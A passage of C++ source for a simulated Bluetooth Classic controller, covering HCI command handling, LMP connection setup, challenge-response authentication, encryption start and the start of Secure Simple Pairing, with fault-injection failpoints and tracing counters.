          evt.class_of_device = response.class_of_device;
          evt.name = response.name;
          send_event(evt.encode());
        } else {
          hci::InquiryResultEvt evt;
          evt.bdaddr = response.address;
          evt.class_of_device = response.class_of_device;
          send_event(evt.encode());
        }
      },
      [this] {
        if (!inquiring_) return;
        inquiring_ = false;
        send_event(hci::InquiryCompleteEvt{hci::Status::kSuccess}.encode());
      });
}

void Controller::handle_create_connection(const hci::CreateConnectionCmd& cmd) {
  if (link_by_peer(cmd.bdaddr) != nullptr) {
    command_status(hci::op::kCreateConnection, hci::Status::kConnectionAlreadyExists);
    return;
  }
  command_status(hci::op::kCreateConnection, hci::Status::kSuccess);
  const BdAddr target = cmd.bdaddr;
  if (obs_ != nullptr && obs_->tracing())
    obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kController,
                  "create_connection", strfmt("page %s", target.to_string().c_str()));
  // The paging hardware wedges before the first train. The host still gets
  // its Page Timeout — after the full configured window, like a real one.
  if (BLAP_FAILPOINT("controller.page.abort")) {
    scheduler_.schedule_in(config_.page_timeout, [this, target] {
      hci::ConnectionCompleteEvt evt;
      evt.status = hci::Status::kPageTimeout;
      evt.bdaddr = target;
      send_event(evt.encode());
    });
    return;
  }
  medium_.page(this, target, config_.page_timeout,
               [this, target](std::optional<radio::LinkId> link_id) {
                 if (!link_id) {
                   hci::ConnectionCompleteEvt evt;
                   evt.status = hci::Status::kPageTimeout;
                   evt.bdaddr = target;
                   send_event(evt.encode());
                   return;
                 }
                 // on_link_established(initiator=true) already created the
                 // Link entry; now run the LMP host connection handshake.
                 Link* link = link_by_radio(*link_id);
                 if (link == nullptr) return;
                 link->state = LinkState::kConnecting;
                 send_lmp(*link, LmpOpcode::kHostConnectionReq);
                 arm_lmp_timer(*link);
               });
}

void Controller::on_link_established(radio::LinkId link_id, const BdAddr& peer, bool initiator) {
  Link link;
  link.radio_link = link_id;
  link.handle = next_handle_++;
  link.peer = peer;
  link.initiator = initiator;
  link.state =
      initiator ? LinkState::kConnecting : LinkState::kAwaitingHostConnectionReq;
  Link& placed = links_.emplace(link.handle, std::move(link)).first->second;
  // Under a fault plan the link is supervised from its first slot: a link
  // that never carries a single frame must still die by timeout, not hang.
  arm_supervision_timer(placed);
}

void Controller::on_lmp_host_connection_req(Link& link) {
  if (link.state != LinkState::kAwaitingHostConnectionReq) return;
  link.state = LinkState::kHostAcceptPending;
  hci::ConnectionRequestEvt evt;
  evt.bdaddr = link.peer;
  // The paged initiator's COD is not carried on our baseband model; report
  // the peer's class as seen during inquiry would require caching — use the
  // generic value the host mostly ignores.
  evt.class_of_device = ClassOfDevice(0);
  send_event(evt.encode());
  const hci::ConnectionHandle handle = link.handle;
  SimTime accept_window = config_.connection_accept_timeout;
  // The accept timer expires before the host had any real chance to answer.
  if (BLAP_FAILPOINT("controller.accept.timer_early")) accept_window = 1;
  link.accept_timer = scheduler_.schedule_in(accept_window, [this, handle] {
    Link* l = link_by_handle(handle);
    if (l == nullptr || l->state != LinkState::kHostAcceptPending) return;
    send_lmp(*l, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kHostConnectionReq,
                            static_cast<std::uint8_t>(hci::Status::kConnectionAcceptTimeout)}
                 .encode());
    teardown_link(*l, hci::Status::kConnectionAcceptTimeout, true);
  });
}

void Controller::handle_accept_connection(const hci::AcceptConnectionRequestCmd& cmd) {
  command_status(hci::op::kAcceptConnectionRequest, hci::Status::kSuccess);
  Link* link = link_by_peer(cmd.bdaddr);
  if (link == nullptr || link->state != LinkState::kHostAcceptPending) return;
  link->accept_timer.cancel();
  link->state = LinkState::kConnected;
  send_lmp(*link, LmpOpcode::kAccepted,
           Bytes{static_cast<std::uint8_t>(LmpOpcode::kHostConnectionReq)});
  hci::ConnectionCompleteEvt evt;
  evt.status = hci::Status::kSuccess;
  evt.handle = link->handle;
  evt.bdaddr = link->peer;
  send_event(evt.encode());
}

void Controller::handle_reject_connection(const hci::RejectConnectionRequestCmd& cmd) {
  command_status(hci::op::kRejectConnectionRequest, hci::Status::kSuccess);
  Link* link = link_by_peer(cmd.bdaddr);
  if (link == nullptr || link->state != LinkState::kHostAcceptPending) return;
  link->accept_timer.cancel();
  send_lmp(*link, LmpOpcode::kNotAccepted,
           LmpNotAccepted{LmpOpcode::kHostConnectionReq, static_cast<std::uint8_t>(cmd.reason)}
               .encode());
  const hci::ConnectionHandle handle = link->handle;
  medium_.close_link(link->radio_link, this, static_cast<std::uint8_t>(cmd.reason));
  links_.erase(handle);  // responder raises no Connection_Complete on reject
}

void Controller::handle_disconnect(const hci::DisconnectCmd& cmd) {
  command_status(hci::op::kDisconnect, hci::Status::kSuccess);
  Link* link = link_by_handle(cmd.handle);
  if (link == nullptr) return;
  // One idempotent teardown path for every way a link dies: even a
  // supervision timeout landing in the same slot yields exactly one
  // Disconnection_Complete.
  teardown_link(*link, static_cast<hci::Status>(cmd.reason), true);
}

void Controller::on_link_closed(radio::LinkId link_id, std::uint8_t reason) {
  Link* link = link_by_radio(link_id);
  if (link == nullptr) return;
  const bool auth_pending = link->auth_requested_by_host && link->auth != AuthState::kIdle;
  const hci::ConnectionHandle handle = link->handle;
  const LinkState state = link->state;
  const BdAddr peer = link->peer;
  link->lmp_timer.cancel();
  link->accept_timer.cancel();
  link->supervision_timer.cancel();
  links_.erase(handle);

  if (state == LinkState::kConnecting) {
    // The baseband died before the host-level connection completed (e.g.
    // the responder rejected and tore the link down): the host is still
    // waiting on its Create_Connection, so report THAT as failed. Close
    // reasons are HCI error codes end-to-end (radio::close_reason); a bare
    // 0 carries no cause, so map it to the generic dead-baseband verdict —
    // Connection Timeout — instead of fabricating a Page Timeout (the page
    // demonstrably succeeded: this link existed).
    hci::ConnectionCompleteEvt evt;
    evt.status = reason == 0 ? hci::Status::kConnectionTimeout
                             : static_cast<hci::Status>(reason);
    evt.bdaddr = peer;
    send_event(evt.encode());
    return;
  }
  if (state != LinkState::kConnected) return;  // responder-side pre-accept states

  if (auth_pending) {
    hci::AuthenticationCompleteEvt auth_evt;
    auth_evt.status = static_cast<hci::Status>(reason);
    auth_evt.handle = handle;
    send_event(auth_evt.encode());
  }
  hci::DisconnectionCompleteEvt evt;
  evt.handle = handle;
  evt.reason = static_cast<hci::Status>(reason);
  send_event(evt.encode());
}

void Controller::handle_authentication_requested(const hci::AuthenticationRequestedCmd& cmd) {
  Link* link = link_by_handle(cmd.handle);
  if (link == nullptr || link->state != LinkState::kConnected) {
    command_status(hci::op::kAuthenticationRequested,
                   hci::Status::kUnknownConnectionIdentifier);
    return;
  }
  command_status(hci::op::kAuthenticationRequested, hci::Status::kSuccess);
  link->auth_requested_by_host = true;
  link->auth = AuthState::kWaitLocalKey;
  if (obs_ != nullptr) {
    obs_->count("hci.link_key_requests");
    obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kHci, "link_key_request",
                  "controller asks its host for the bond key");
  }
  // Pull the link key from the host — the moment the key crosses the HCI.
  send_event(hci::LinkKeyRequestEvt{link->peer}.encode());
}

void Controller::handle_link_key_reply(const hci::LinkKeyRequestReplyCmd& cmd) {
  if (obs_ != nullptr) {
    // The extraction attack's whole premise: this reply carries the bond
    // key across the HCI in plaintext, visible to any dump/sniffer.
    obs_->count("hci.link_key_replies");
    obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kHci,
                  "link_key_request_reply", "plaintext link key crosses the HCI");
  }
  command_complete(hci::op::kLinkKeyRequestReply, hci::Status::kSuccess);
  Link* link = link_by_peer(cmd.bdaddr);
  if (link == nullptr) return;
  link->key = cmd.link_key;
  link->have_key = true;
  if (link->auth == AuthState::kWaitLocalKey) {
    send_challenge(*link);
  } else if (link->auth == AuthState::kClaimWaitLocalKey && link->have_pending_au_rand) {
    // Answer the peer's outstanding challenge.
    link->have_pending_au_rand = false;
    if (link->pending_au_rand_is_sc) {
      link->pending_au_rand_is_sc = false;
      answer_sc_challenge(*link, link->pending_au_rand);
      return;
    }
    const auto out = crypto::e1(link->key, link->pending_au_rand, config_.address);
    link->aco = out.aco;
    link->have_aco = true;
    link->auth = AuthState::kIdle;
    send_lmp(*link, LmpOpcode::kSres, Bytes(out.sres.begin(), out.sres.end()));
    if (!link->auth_requested_by_host) {
      // Mutual authentication: now challenge the peer back.
      send_challenge(*link);
    }
  }
}

void Controller::handle_link_key_negative_reply(const hci::LinkKeyRequestNegativeReplyCmd& cmd) {
  command_complete(hci::op::kLinkKeyRequestNegativeReply, hci::Status::kSuccess);
  Link* link = link_by_peer(cmd.bdaddr);
  if (link == nullptr) return;
  if (link->auth == AuthState::kWaitLocalKey) {
    // No bond: run Secure Simple Pairing to create one — or, on a pre-2.1
    // stack, the legacy PIN procedure.
    if (!simple_pairing_mode_) {
      start_legacy_pairing_as_initiator(*link);
      return;
    }
    start_pairing_as_initiator(*link);
  } else if (link->auth == AuthState::kClaimWaitLocalKey) {
    link->have_pending_au_rand = false;
    link->auth = AuthState::kIdle;
    send_lmp(*link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{link->pending_au_rand_is_sc ? LmpOpcode::kAuRandSc
                                                        : LmpOpcode::kAuRand,
                            static_cast<std::uint8_t>(hci::Status::kPinOrKeyMissing)}
                 .encode());
    link->pending_au_rand_is_sc = false;
  }
}

void Controller::handle_set_encryption(const hci::SetConnectionEncryptionCmd& cmd) {
  Link* link = link_by_handle(cmd.handle);
  if (link == nullptr || !link->have_key || !link->have_aco) {
    command_status(hci::op::kSetConnectionEncryption,
                   hci::Status::kUnknownConnectionIdentifier);
    return;
  }
  command_status(hci::op::kSetConnectionEncryption, hci::Status::kSuccess);
  if (obs_ != nullptr && link->obs_enc_span == 0)
    link->obs_enc_span = obs_->begin_span(scheduler_.now(), obs_tid_,
                                          obs::Layer::kLmp, "encryption_start");
  send_lmp(*link, LmpOpcode::kEncryptionModeReq, Bytes{cmd.encryption_enable});
  arm_lmp_timer(*link);
}

void Controller::handle_remote_name_request(const hci::RemoteNameRequestCmd& cmd) {
  command_status(hci::op::kRemoteNameRequest, hci::Status::kSuccess);
  Link* link = link_by_peer(cmd.bdaddr);
  if (link == nullptr || link->state != LinkState::kConnected) {
    hci::RemoteNameRequestCompleteEvt evt;
    evt.status = hci::Status::kPageTimeout;
    evt.bdaddr = cmd.bdaddr;
    send_event(evt.encode());
    return;
  }
  send_lmp(*link, LmpOpcode::kNameReq);
}

// ---------------------------------------------------------------------------
// LMP receive path
// ---------------------------------------------------------------------------

void Controller::on_air_frame(radio::LinkId link_id, const Bytes& frame) {
  Link* link = link_by_radio(link_id);
  if (link == nullptr) return;
  // Any received frame — even one that parses to garbage — proves the peer
  // is still transmitting; push the supervision deadline out.
  arm_supervision_timer(*link);

  if (auto acl = parse_acl_air_frame(frame)) {
    Bytes payload = std::move(*acl);
    if (link->encrypted) {
      const BdAddr master = link->initiator ? config_.address : link->peer;
      crypto::E0Cipher cipher(link->enc_key, master, link->rx_counter++);
      cipher.crypt(payload);
    }
    send_event(hci::make_acl(link->handle, payload));
    return;
  }

  auto pdu = LmpPdu::from_air_frame(frame);
  if (!pdu) return;
  BLAP_TRACE("lmp", "%s rx %s", config_.address.to_string().c_str(), to_string(pdu->opcode));
  on_lmp(*link, *pdu);
}

void Controller::on_lmp(Link& link, const LmpPdu& pdu) {
  disarm_lmp_timer(link);
  if (obs_ != nullptr) {
    obs_->count("lmp.rx");
    if (obs_->tracing())
      obs_->instant(scheduler_.now(), obs_tid_, obs::Layer::kLmp,
                    strfmt("lmp_rx:%s", to_string(pdu.opcode)));
  }
  const hci::ConnectionHandle handle = link.handle;
  switch (pdu.opcode) {
    case LmpOpcode::kHostConnectionReq: on_lmp_host_connection_req(link); break;
    case LmpOpcode::kAccepted:
      if (!pdu.payload.empty()) on_lmp_accepted(link, static_cast<LmpOpcode>(pdu.payload[0]));
      break;
    case LmpOpcode::kNotAccepted:
      if (auto p = LmpNotAccepted::decode(pdu.payload)) on_lmp_not_accepted(link, *p);
      break;
    case LmpOpcode::kAuRand: on_lmp_au_rand(link, to_rand128(pdu.payload)); break;
    case LmpOpcode::kSres: {
      crypto::Sres sres{};
      std::copy_n(pdu.payload.begin(), std::min<std::size_t>(4, pdu.payload.size()),
                  sres.begin());
      on_lmp_sres(link, sres);
      break;
    }
    case LmpOpcode::kIoCapabilityReq:
      if (auto p = LmpIoCap::decode(pdu.payload)) on_lmp_io_cap_req(link, *p);
      break;
    case LmpOpcode::kIoCapabilityRes:
      if (auto p = LmpIoCap::decode(pdu.payload)) on_lmp_io_cap_res(link, *p);
      break;
    case LmpOpcode::kEncapsulatedPublicKey:
      if (auto p = LmpPublicKey::decode(pdu.payload)) on_lmp_public_key(link, *p);
      break;
    case LmpOpcode::kSimplePairingConfirm: {
      crypto::LinkKey commitment{};
      std::copy_n(pdu.payload.begin(), std::min<std::size_t>(16, pdu.payload.size()),
                  commitment.begin());
      on_lmp_sp_confirm(link, commitment);
      break;
    }
    case LmpOpcode::kSimplePairingNumber: on_lmp_sp_number(link, to_rand128(pdu.payload)); break;
    case LmpOpcode::kDhkeyCheck: {
      crypto::LinkKey check{};
      std::copy_n(pdu.payload.begin(), std::min<std::size_t>(16, pdu.payload.size()),
                  check.begin());
      on_lmp_dhkey_check(link, check);
      break;
    }
    case LmpOpcode::kEncryptionModeReq: on_lmp_encryption_mode_req(link); break;
    case LmpOpcode::kStartEncryptionReq:
      on_lmp_start_encryption_req(link, to_rand128(pdu.payload));
      break;
    case LmpOpcode::kAuRandSc: on_lmp_au_rand_sc(link, to_rand128(pdu.payload)); break;
    case LmpOpcode::kSresSc: on_lmp_sres_sc(link, pdu.payload); break;
    case LmpOpcode::kInRand: on_lmp_in_rand(link, to_rand128(pdu.payload)); break;
    case LmpOpcode::kCombKey: {
      crypto::LinkKey masked{};
      std::copy_n(pdu.payload.begin(), std::min<std::size_t>(16, pdu.payload.size()),
                  masked.begin());
      on_lmp_comb_key(link, masked);
      break;
    }
    case LmpOpcode::kNameReq: {
      Bytes name(config_.name.begin(), config_.name.end());
      send_lmp(link, LmpOpcode::kNameRes, std::move(name));
      break;
    }
    case LmpOpcode::kNameRes: {
      hci::RemoteNameRequestCompleteEvt evt;
      evt.bdaddr = link.peer;
      evt.remote_name.assign(pdu.payload.begin(), pdu.payload.end());
      send_event(evt.encode());
      break;
    }
    case LmpOpcode::kSetupComplete:
    case LmpOpcode::kDetach:
    case LmpOpcode::kStopEncryptionReq:
    case LmpOpcode::kPing:
      break;
  }
  // Re-arm the response timer if this link is mid-authentication and waiting
  // on the peer (kWaitSres / kWaitMutualDone). Pairing stages arm explicitly
  // at each send; states waiting on our *own* host (kClaimWaitLocalKey, a
  // pending user confirmation) intentionally run without a peer timer.
  Link* still = link_by_handle(handle);
  if (still == nullptr) return;
  if (still->auth == AuthState::kWaitSres || still->auth == AuthState::kWaitMutualDone ||
      still->auth == AuthState::kScWaitMasterSres)
    arm_lmp_timer(*still);
}

void Controller::on_lmp_accepted(Link& link, LmpOpcode about) {
  switch (about) {
    case LmpOpcode::kHostConnectionReq: {
      if (link.state != LinkState::kConnecting) return;
      link.state = LinkState::kConnected;
      hci::ConnectionCompleteEvt evt;
      evt.status = hci::Status::kSuccess;
      evt.handle = link.handle;
      evt.bdaddr = link.peer;
      send_event(evt.encode());
      break;
    }
    case LmpOpcode::kAuRand:
      // Peer's reverse challenge verified our response: mutual auth done.
      if (link.auth == AuthState::kWaitMutualDone) auth_succeeded(link);
      break;
    case LmpOpcode::kInRand:
      // Legacy pairing: the responder accepted our IN_RAND and computed the
      // same initialization key; exchange combination-key contributions.
      if (link.legacy != nullptr && link.legacy->initiator)
        send_comb_key_contribution(link);
      break;
    case LmpOpcode::kEncryptionModeReq: {
      // Continue with the start-encryption exchange.
      crypto::Rand128 en_rand = rng_.bytes<16>();
      link.pending_en_rand = en_rand;
      send_lmp(link, LmpOpcode::kStartEncryptionReq, rand_bytes(en_rand));
      arm_lmp_timer(link);
      break;
    }
    case LmpOpcode::kStartEncryptionReq: {
      link.enc_key = crypto::e3(link.key, link.pending_en_rand, link.aco);
      link.encrypted = true;
      link.tx_counter = link.rx_counter = 0;
      if (obs_ != nullptr) {
        obs_->count("lmp.encryption_starts");
        obs_->end_span(scheduler_.now(), link.obs_enc_span, "E0 key live");
        link.obs_enc_span = 0;
      }
      hci::EncryptionChangeEvt evt;
      evt.handle = link.handle;
      evt.encryption_enabled = 1;
      send_event(evt.encode());
      break;
    }
    default: break;
  }
}

void Controller::on_lmp_not_accepted(Link& link, const LmpNotAccepted& pdu) {
  switch (pdu.rejected_opcode) {
    case LmpOpcode::kHostConnectionReq: {
      if (link.state != LinkState::kConnecting) return;
      hci::ConnectionCompleteEvt evt;
      evt.status = static_cast<hci::Status>(pdu.reason);
      evt.bdaddr = link.peer;
      send_event(evt.encode());
      medium_.close_link(link.radio_link, this, pdu.reason);
      links_.erase(link.handle);
      break;
    }
    case LmpOpcode::kAuRand:
    case LmpOpcode::kSres:
    case LmpOpcode::kSresSc:
      auth_failed(link, static_cast<hci::Status>(pdu.reason));
      break;
    case LmpOpcode::kAuRandSc:
      // The peer does not support secure authentication: retry with E1.
      if (link.auth == AuthState::kWaitSres && link.sc_in_use) {
        link.sc_in_use = false;
        send_lmp(link, LmpOpcode::kAuRand, rand_bytes(link.challenge));
        arm_lmp_timer(link);
      } else {
        auth_failed(link, static_cast<hci::Status>(pdu.reason));
      }
      break;
    case LmpOpcode::kIoCapabilityReq:
      // The peer does not speak SSP: fall back to legacy PIN pairing.
      if (link.ssp != nullptr && link.ssp->initiator) {
        link.ssp.reset();
        start_legacy_pairing_as_initiator(link);
        break;
      }
      finish_pairing(link, false);
      break;
    case LmpOpcode::kSimplePairingNumber:
    case LmpOpcode::kSimplePairingConfirm:
    case LmpOpcode::kDhkeyCheck:
    case LmpOpcode::kEncapsulatedPublicKey:
      finish_pairing(link, false);
      break;
    case LmpOpcode::kInRand:
    case LmpOpcode::kCombKey:
      link.legacy.reset();
      auth_failed(link, static_cast<hci::Status>(pdu.reason));
      break;
    default: break;
  }
}

// ---------------------------------------------------------------------------
// LMP authentication (E1 challenge–response)
// ---------------------------------------------------------------------------

void Controller::send_challenge(Link& link) {
  if (obs_ != nullptr && link.obs_auth_span == 0)
    link.obs_auth_span =
        obs_->begin_span(scheduler_.now(), obs_tid_, obs::Layer::kLmp, "lmp_auth",
                         strfmt("challenge %s", link.peer.to_string().c_str()));
  link.challenge = rng_.bytes<16>();
  link.auth = AuthState::kWaitSres;
  // Secure Connections controllers first try the h4/h5 secure
  // authentication (mutual in one round trip); a peer that rejects it makes
  // us fall back to the legacy E1 procedure (see on_lmp_not_accepted).
  link.sc_in_use = config_.secure_connections;
  send_lmp(link, link.sc_in_use ? LmpOpcode::kAuRandSc : LmpOpcode::kAuRand,
           rand_bytes(link.challenge));
  arm_lmp_timer(link);
}

// ---------------------------------------------------------------------------
// Secure Connections secure authentication (h4/h5)
// ---------------------------------------------------------------------------

namespace {
/// Widen h5's 64-bit ACO to the 96-bit COF that E3 consumes (documented
/// substitution: real Secure Connections switches to AES-CCM keyed via h3;
/// BLAP keeps the single E3/E0 encryption path).
crypto::Aco extend_aco(const std::array<std::uint8_t, 8>& aco8) {
  crypto::Aco out{};
  std::copy(aco8.begin(), aco8.end(), out.begin());
  std::copy_n(aco8.begin(), 4, out.begin() + 8);
  return out;
}
}  // namespace

crypto::LinkKey Controller::sc_device_key(const Link& link, bool we_are_verifier) const {
  // h4 binds (verifier, claimant) addresses; both sides must agree on the
  // ordering, so it follows the challenge direction.
  const BdAddr& verifier = we_are_verifier ? config_.address : link.peer;
  const BdAddr& claimant = we_are_verifier ? link.peer : config_.address;
  return crypto::h4(link.key, verifier, claimant);
}

void Controller::on_lmp_au_rand_sc(Link& link, const crypto::Rand128& rand) {
  if (!config_.secure_connections) {
    // We cannot run the SC procedure: reject, the verifier falls back to E1.
    send_lmp(link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kAuRandSc,
                            static_cast<std::uint8_t>(hci::Status::kPairingNotAllowed)}
                 .encode());
    return;
  }
  if (link.have_key) {
    answer_sc_challenge(link, rand);
    return;
  }
  link.pending_au_rand = rand;
  link.have_pending_au_rand = true;
  link.pending_au_rand_is_sc = true;
  link.auth = AuthState::kClaimWaitLocalKey;
  send_event(hci::LinkKeyRequestEvt{link.peer}.encode());
}

void Controller::answer_sc_challenge(Link& link, const crypto::Rand128& rand) {
  const crypto::LinkKey dev_key = sc_device_key(link, /*we_are_verifier=*/false);
  const crypto::Rand128 r_s = rng_.bytes<16>();
  const auto out = crypto::h5(dev_key, rand, r_s);
  link.sc_expected_sres = out.sres_master;
  link.aco = extend_aco(out.aco);
  link.have_aco = true;
  ByteWriter w;
  w.raw(r_s);
  w.raw(out.sres_slave);
  send_lmp(link, LmpOpcode::kSresSc, w.data());
  link.auth = AuthState::kScWaitMasterSres;
  arm_lmp_timer(link);
}

void Controller::on_lmp_sres_sc(Link& link, BytesView payload) {
  if (link.auth != AuthState::kWaitSres || !link.sc_in_use) return;
  ByteReader r(payload);
  auto r_s = r.array<16>();
  auto sres_s = r.array<4>();
  if (!r_s || !sres_s) return;
  const crypto::LinkKey dev_key = sc_device_key(link, /*we_are_verifier=*/true);
  const auto out = crypto::h5(dev_key, link.challenge, *r_s);
  if (!ct_equal(BytesView(out.sres_slave.data(), out.sres_slave.size()),
                BytesView(sres_s->data(), sres_s->size()))) {
    send_lmp(link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kSresSc,
                            static_cast<std::uint8_t>(hci::Status::kAuthenticationFailure)}
                 .encode());
    auth_failed(link, hci::Status::kAuthenticationFailure);
    return;
  }
  link.aco = extend_aco(out.aco);
  link.have_aco = true;
  // Prove our side of the mutual authentication.
  send_lmp(link, LmpOpcode::kSres, Bytes(out.sres_master.begin(), out.sres_master.end()));
  link.auth = AuthState::kWaitMutualDone;
  arm_lmp_timer(link);
}

void Controller::on_lmp_au_rand(Link& link, const crypto::Rand128& rand) {
  if (link.have_key) {
    const auto out = crypto::e1(link.key, rand, config_.address);
    link.aco = out.aco;
    link.have_aco = true;
    send_lmp(link, LmpOpcode::kSres, Bytes(out.sres.begin(), out.sres.end()));
    if (!link.auth_requested_by_host && link.auth == AuthState::kIdle) {
      send_challenge(link);
    }
    return;
  }
  // Need the key from the host first.
  link.pending_au_rand = rand;
  link.have_pending_au_rand = true;
  link.auth = AuthState::kClaimWaitLocalKey;
  send_event(hci::LinkKeyRequestEvt{link.peer}.encode());
}

void Controller::on_lmp_sres(Link& link, const crypto::Sres& sres) {
  if (link.auth == AuthState::kScWaitMasterSres) {
    // SC claimant: the verifier proves its side with SRES_master.
    if (!ct_equal(BytesView(sres.data(), sres.size()),
                  BytesView(link.sc_expected_sres.data(), link.sc_expected_sres.size()))) {
      send_lmp(link, LmpOpcode::kNotAccepted,
               LmpNotAccepted{LmpOpcode::kSres,
                              static_cast<std::uint8_t>(hci::Status::kAuthenticationFailure)}
                   .encode());
      auth_failed(link, hci::Status::kAuthenticationFailure);
      return;
    }
    link.auth = AuthState::kIdle;
    send_lmp(link, LmpOpcode::kAccepted, Bytes{static_cast<std::uint8_t>(LmpOpcode::kAuRand)});
    return;
  }
  if (link.auth != AuthState::kWaitSres) return;
  const auto expected = crypto::e1(link.key, link.challenge, link.peer);
  if (!ct_equal(BytesView(sres.data(), sres.size()),
                BytesView(expected.sres.data(), expected.sres.size()))) {
    send_lmp(link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kAuRand,
                            static_cast<std::uint8_t>(hci::Status::kAuthenticationFailure)}
                 .encode());
    auth_failed(link, hci::Status::kAuthenticationFailure);
    return;
  }
  link.aco = expected.aco;
  link.have_aco = true;
  if (link.auth_requested_by_host) {
    // Forward challenge verified; the peer now challenges us back.
    link.auth = AuthState::kWaitMutualDone;
    arm_lmp_timer(link);
  } else {
    // We were the reverse verifier: mutual authentication is complete.
    link.auth = AuthState::kIdle;
    send_lmp(link, LmpOpcode::kAccepted, Bytes{static_cast<std::uint8_t>(LmpOpcode::kAuRand)});
  }
}

void Controller::auth_failed(Link& link, hci::Status status) {
  if (obs_ != nullptr) {
    obs_->count("lmp.auth_failures");
    obs_->end_span(scheduler_.now(), link.obs_auth_span,
                   strfmt("FAILED (%s)", to_string(status)));
    link.obs_auth_span = 0;
    // A pairing attempt aborted below the SSP/legacy completion paths
    // (e.g. a mid-exchange NotAccepted) still closes its span here.
    obs_->end_span(scheduler_.now(), link.obs_pair_span,
                   strfmt("aborted (%s)", to_string(status)));
    link.obs_pair_span = 0;
  }
  link.auth = AuthState::kIdle;
  link.ssp.reset();
  if (link.auth_requested_by_host) {
    link.auth_requested_by_host = false;
    hci::AuthenticationCompleteEvt evt;
    evt.status = status;
    evt.handle = link.handle;
    send_event(evt.encode());
  }
}

void Controller::auth_succeeded(Link& link) {
  if (obs_ != nullptr) {
    obs_->count("lmp.auth_successes");
    obs_->end_span(scheduler_.now(), link.obs_auth_span, "mutual auth OK");
    link.obs_auth_span = 0;
  }
  link.auth = AuthState::kIdle;
  if (link.auth_requested_by_host) {
    link.auth_requested_by_host = false;
    hci::AuthenticationCompleteEvt evt;
    evt.status = hci::Status::kSuccess;
    evt.handle = link.handle;
    send_event(evt.encode());
  }
}

// ---------------------------------------------------------------------------
// Secure Simple Pairing
// ---------------------------------------------------------------------------

void Controller::obs_begin_pair(Link& link, const char* kind) {
  if (obs_ == nullptr) return;
  obs_->count("lmp.pairings_started");
  if (link.obs_pair_span == 0)
    link.obs_pair_span =
        obs_->begin_span(scheduler_.now(), obs_tid_, obs::Layer::kLmp, "pairing", kind);
}

void Controller::obs_end_pair(Link& link, bool success) {
  if (obs_ == nullptr) return;
  obs_->count(success ? "lmp.pairings_succeeded" : "lmp.pairings_failed");
  obs_->end_span(scheduler_.now(), link.obs_pair_span,
                 success ? "link key derived" : "FAILED");
  link.obs_pair_span = 0;
}

void Controller::start_pairing_as_initiator(Link& link) {
  link.auth = AuthState::kPairing;
  link.ssp = std::make_unique<SspContext>();
  link.ssp->initiator = true;
  link.ssp->curve =
      config_.secure_connections ? &crypto::EcCurve::p256() : &crypto::EcCurve::p192();
  obs_begin_pair(link, config_.secure_connections ? "ssp initiator (P-256)"
                                                  : "ssp initiator (P-192)");
  send_event(hci::IoCapabilityRequestEvt{link.peer}.encode());
}

void Controller::handle_io_capability_reply(const hci::IoCapabilityRequestReplyCmd& cmd) {
  command_complete(hci::op::kIoCapabilityRequestReply, hci::Status::kSuccess);
  Link* link = link_by_peer(cmd.bdaddr);
  if (link == nullptr || link->ssp == nullptr) return;
  link->ssp->local_iocap = crypto::IoCapTriplet{static_cast<std::uint8_t>(cmd.io_capability),
                                                cmd.oob_data_present,
                                                cmd.authentication_requirements};
  if (link->ssp->initiator) {
    continue_initiator_after_iocap(*link);
  } else {
    // Responder: answer the peer's io_cap_req.
    send_lmp(*link, LmpOpcode::kIoCapabilityRes,
             LmpIoCap{link->ssp->local_iocap.io_capability, link->ssp->local_iocap.oob_data_present,
                      link->ssp->local_iocap.auth_req}
                 .encode());
  }
}

void Controller::continue_initiator_after_iocap(Link& link) {
  send_lmp(link, LmpOpcode::kIoCapabilityReq,
           LmpIoCap{link.ssp->local_iocap.io_capability, link.ssp->local_iocap.oob_data_present,
                    link.ssp->local_iocap.auth_req}
               .encode());
  arm_lmp_timer(link);
}

void Controller::on_lmp_io_cap_req(Link& link, const LmpIoCap& iocap) {
  // A pre-SSP responder cannot run the SSP sub-protocol: reject, and the
  // initiator falls back to legacy PIN pairing.
  if (!simple_pairing_mode_) {
    send_lmp(link, LmpOpcode::kNotAccepted,
             LmpNotAccepted{LmpOpcode::kIoCapabilityReq,
                            static_cast<std::uint8_t>(hci::Status::kPairingNotAllowed)}
                 .encode());
    return;
  }
  // Peer initiates pairing toward us (we are the responder).
  if (link.ssp == nullptr) {
    link.auth = AuthState::kPairing;
    link.ssp = std::make_unique<SspContext>();
    link.ssp->initiator = false;
    obs_begin_pair(link, "ssp responder");
  }
  link.ssp->peer_iocap =
      crypto::IoCapTriplet{iocap.io_capability, iocap.oob_data_present,
                           iocap.authentication_requirements};
  // Tell the host about the peer's capabilities, then ask for ours.
  hci::IoCapabilityResponseEvt response;
  response.bdaddr = link.peer;
  response.io_capability = static_cast<hci::IoCapability>(iocap.io_capability);
  response.oob_data_present = iocap.oob_data_present;
  response.authentication_requirements = iocap.authentication_requirements;
  send_event(response.encode());
  send_event(hci::IoCapabilityRequestEvt{link.peer}.encode());
}

void Controller::on_lmp_io_cap_res(Link& link, const LmpIoCap& iocap) {
  if (link.ssp == nullptr || !link.ssp->initiator) return;
  link.ssp->peer_iocap =
      crypto::IoCapTriplet{iocap.io_capability, iocap.oob_data_present,
                           iocap.authentication_requirements};
  hci::IoCapabilityResponseEvt response;
  response.bdaddr = link.peer;
  response.io_capability = static_cast<hci::IoCapability>(iocap.io_capability);
  response.oob_data_present = iocap.oob_data_present;
  response.authentication_requirements = iocap.authentication_requirements;
  send_event(response.encode());
  send_public_key(link);
}

void Controller::send_public_key(Link& link) {
  auto& ssp = *link.ssp;
  ssp.local_keypair = crypto::generate_keypair(*ssp.curve, rng_);
  LmpPublicKey pdu;
  pdu.x = crypto::coordinate_bytes(*ssp.curve, ssp.local_keypair.public_key.x);
  pdu.y = crypto::coordinate_bytes(*ssp.curve, ssp.local_keypair.public_key.y);
  send_lmp(link, LmpOpcode::kEncapsulatedPublicKey, pdu.encode());
  arm_lmp_timer(link);
}

void Controller::on_lmp_public_key(Link& link, const LmpPublicKey& key) {
  if (link.ssp == nullptr) return;
  auto& ssp = *link.ssp;
  if (!ssp.initiator && ssp.curve == nullptr) {
